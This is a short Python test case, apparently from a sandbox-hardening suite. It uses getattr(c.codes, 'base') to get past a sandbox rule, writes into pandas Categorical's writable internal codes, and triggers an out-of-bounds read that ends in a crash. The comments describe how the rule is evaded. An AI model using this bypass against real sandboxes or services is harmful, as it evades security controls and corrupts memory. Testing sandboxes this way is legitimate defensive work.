# source: pandas Categorical.codes ("read-only view"; pandas/core/arrays/categorical.py, the view's base is the writable _codes) and numpy ndarray.base; the same door as attack12j_002, reached through getattr() with a literal name, which sandexec read as the attribute without the rules that judge .base by its use
# family: a name a rule judges by use (only a.base is None), handed over by getattr(x, "base")
# goal: a code far past the categories; list(c) takes it without a bound check -> out-of-bounds read (segmentation fault in the image)
import json

import pandas as pd

c = pd.Categorical(["a", "b", "a"])
own = getattr(c.codes, "base")
own[0] = 100
print(json.dumps({"value": str(list(c))[:40]}))
